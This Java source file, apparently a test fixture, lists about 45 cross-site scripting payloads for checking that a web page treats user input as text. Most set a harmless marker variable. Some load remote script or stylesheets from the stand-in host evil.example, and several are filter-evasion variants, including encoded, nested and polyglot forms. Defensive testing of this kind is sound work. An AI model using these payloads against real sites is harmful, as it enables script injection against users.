package id.satuwarga.sample.journey;

import java.util.List;

/** What somebody might write in the hope that a page takes it for more than text. */
final class Payloads {
  private Payloads() {}

  static List<String> all() {
    return List.of(
        "<script>window.hurt=1</script>",
        "<script src=//evil.example/x.js></script>",
        "\"><script>window.hurt=1</script>",
        "'><script>window.hurt=1</script>",
        "</script><script>window.hurt=1</script>",
        "<ScRiPt>window.hurt=1</sCrIpT>",
        "<scr<script>ipt>window.hurt=1</scr</script>ipt>",
        "<img src=x onerror=window.hurt=1>",
        "<img src=x onerror=\"window.hurt=1\">",
        "<img/src/onerror=window.hurt=1>",
        "<IMG SRC=javascript:window.hurt=1>",
        "<IMG SRC=&#106;avascript:alert(1)>",
        "<svg onload=window.hurt=1>",
        "<svg><script>window.hurt=1</script></svg>",
        "<svg><animate onbegin=window.hurt=1 attributeName=x>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.hurt=1>",
        "<iframe src=javascript:parent.hurt=1></iframe>",
        "<iframe srcdoc=\"<script>parent.hurt=1</script>\"></iframe>",
        "<object data=javascript:window.hurt=1></object>",
        "<embed src=javascript:window.hurt=1>",
        "<a href=javascript:window.hurt=1>klik</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">klik</a>",
        "[klik](javascript:window.hurt=1)",
        "![x](x\"onerror=\"window.hurt=1)",
        "<body onload=window.hurt=1>",
        "<input autofocus onfocus=window.hurt=1>",
        "<select autofocus onfocus=window.hurt=1>",
        "<textarea autofocus onfocus=window.hurt=1>",
        "</textarea><script>window.hurt=1</script>",
        "</title><script>window.hurt=1</script>",
        "<details open ontoggle=window.hurt=1>",
        "<video><source onerror=window.hurt=1></video>",
        "<audio src=x onerror=window.hurt=1>",
        "<marquee onstart=window.hurt=1>",
        "<form action=javascript:window.hurt=1><button>kirim</button></form>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<template><img src=x onerror=window.hurt=1></template>",
        "${window.hurt=1}",
        "{{constructor.constructor('window.hurt=1')()}}",
        "<!--<img src=--><img src=x onerror=window.hurt=1>//-->",
        "&lt;script&gt;window.hurt=1&lt;/script&gt;",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.hurt=1//'>");
  }
}
